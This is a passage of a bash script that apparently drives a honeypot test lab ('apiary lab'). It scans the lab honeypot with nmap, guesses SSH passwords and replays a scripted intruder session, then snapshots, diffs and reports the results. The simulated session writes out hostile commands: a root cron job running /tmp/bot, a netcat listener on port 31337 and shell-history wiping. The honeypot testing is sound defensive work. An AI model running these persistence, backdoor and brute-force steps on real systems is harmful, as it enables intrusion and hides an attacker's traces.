	type_line "echo '*/5 * * * * root /tmp/bot >/dev/null 2>&1' > /etc/cron.d/sysupdate" 0.8
	type_line '(setsid nc -lk 31337 </dev/null >/dev/null 2>&1 &)' 1
	type_line 'history -c; rm -f ~/.bash_history; unset HISTFILE' 0.8
	type_line 'exit' 1.5
}

cmd_attack() {
	local out=$DIR/attack rc pw
	[ -e "$RUN/up" ] || die "the lab is not up (apiary lab up)"
	command -v sshpass >/dev/null || die "sshpass is missing (scripts/install-deps.sh)"
	mkdir -p "$out"
	step "intruder $INTRUDER_IP: nmap scan of $HP_IP"
	if command -v nmap >/dev/null; then
		in_ns "$NS_INET" timeout 60 nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1024,6514,31337 "$HP_IP" >"$out/nmap.txt" 2>&1
		grep -E '^[0-9]+/tcp' "$out/nmap.txt" >&2
	else
		say "nmap is missing; skipping the scan"
	fi
	step "intruder: ssh password guessing"
	for pw in "${WRONG_PASSWORDS[@]}" "$ROOT_PASSWORD"; do
		in_ns "$NS_INET" timeout 20 sshpass -p "$pw" ssh "${SSH_OPTS[@]}" "root@$HP_IP" true </dev/null >>"$out/guess.txt" 2>&1
		rc=$?
		if [ $rc -eq 0 ]; then say "root / $pw: accepted"; else say "root / $pw: refused"; fi
		echo "root $pw rc=$rc" >>"$out/guess.txt"
	done
	step "intruder: interactive session as root (typed with human delays)"
	intruder_session | in_ns "$NS_INET" timeout 240 sshpass -p "$ROOT_PASSWORD" ssh -tt "${SSH_OPTS[@]}" \
	    "root@$HP_IP" >"$out/session.txt" 2>&1
	rc=$?
	tr -d '\r' <"$out/session.txt" | sed 's/^/  | /' >&2
	[ $rc -eq 0 ] || say "warning: the session ended with status $rc"
	grep -q 'uid=0(root)' "$out/session.txt" || die "attack: the session did not run (see $out/session.txt)"
	step "attack done: transcript in $out/"
}

# ---- report ---------------------------------------------------------------------
cmd_report() {
	local out="" apiary rc
	while [ $# -gt 0 ]; do
		case $1 in
		-o) [ $# -ge 2 ] || die "-o needs a file"; out=$2; shift ;;
		-o*) out=${1#-o} ;;
		*) die "report: unknown option $1" ;;
		esac
		shift
	done
	[ -n "$out" ] || out=$DIR/report.html
	apiary=$(find_bin apiary) || die "apiary is not built"
	[ -e "$RUN/up" ] || die "the lab is not up (the report needs the live honeypot for its after-snapshot)"
	[ -f "$DIR/snap/baseline.db" ] || die "no baseline snapshot in $DIR/snap"
	step "hp1: after snapshot"
	hp_snapshot after || die "the after snapshot failed"
	step "diff baseline -> after"
	mkdir -p "$DIR/diff"
	rm -f "$DIR/diff/eve.json"
	"$apiary" diff "$DIR/snap/baseline.db" "$DIR/snap/after.db" --eve "$DIR/diff/eve.json" \
	    -o "$DIR/diff/diff.txt"
	rc=$?
	[ $rc -lt 16 ] || die "apiary diff failed ($rc)"
	head -n 25 "$DIR/diff/diff.txt" | sed 's/^/  | /' >&2
	step "gateway: flushing its connection table (restart) so every flow is in eve.json"
	stop_pidfile gw 10
	gw_start || say "warning: apiary-gw did not come back"
	step "apiary report"
	if "$apiary" report --help >/dev/null 2>&1; then
		"$apiary" report --title "apiary lab: honeypot A ($HP_IP)" "$DIR/gw" "$DIR/store" "$DIR/diff" \
		    -o "$out" || die "apiary report failed"
		echo
		echo "lab report: $(cd "$(dirname "$out")" && pwd -P)/$(basename "$out")"
	else
		say "warning: this apiary has no 'report' command yet; the raw results are:"
		echo "  gateway:   $DIR/gw (eve.json, conn.log, pcap/)"
		echo "  log store: $DIR/store (apiary sessions $DIR/store)"
		echo "  diff:      $DIR/diff/diff.txt"
		return 3
	fi
}

# ---- save / restore ---------------------------------------------------------------
valid_name() { [[ $1 =~ ^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$ ]] || die "bad name '$1' (letters, digits, . _ -)"; }

cmd_save() {
	[ $# -eq 1 ] || die "usage: apiary lab save NAME"
	valid_name "$1"
	[ -d "$STATE/upper" ] || die "no honeypot state in $STATE"
	[ -e "$RUN/up" ] && say "note: the honeypot is running; the copy is of a live disk"
	mkdir -p "$DIR/saves"
	rm -rf "$DIR/saves/$1.tmp"
	mkdir -p "$DIR/saves/$1.tmp" && cp -a "$STATE/upper" "$DIR/saves/$1.tmp/upper" || die "copy failed"
	rm -rf "$DIR/saves/$1"
	mv "$DIR/saves/$1.tmp" "$DIR/saves/$1" || die "cannot rename the copy"
	say "saved the honeypot's state as '$1' ($(du -sh "$DIR/saves/$1" | cut -f1))"
}

cmd_restore() {
	[ $# -eq 1 ] || die "usage: apiary lab restore NAME"
	valid_name "$1"
	[ -d "$DIR/saves/$1/upper" ] || die "no saved state '$1' in $DIR/saves"
	[ -e "$RUN/up" ] || [ -n "$(lab_namespaces)" ] && die "the lab is up: apiary lab down first (the honeypot's disk is in use)"
	rm -rf "$STATE.new"
	mkdir -p "$STATE.new/work" && cp -a "$DIR/saves/$1/upper" "$STATE.new/upper" || die "copy failed"
	rm -rf "$STATE" && mv "$STATE.new" "$STATE" || die "cannot replace $STATE"
	say "restored '$1'; the next 'apiary lab up' boots it"
}

case $CMD in
up) cmd_up "$@" ;;
down) cmd_down "$@" ;;
status) cmd_status "$@" ;;
attack) cmd_attack "$@" ;;
report) cmd_report "$@" ;;
save) cmd_save "$@" ;;
restore) cmd_restore "$@" ;;
__hp_boot) hp_boot || { echo "hp1: boot failed" >&2; exit 1; } ;;
*) usage >&2; exit 2 ;;
esac
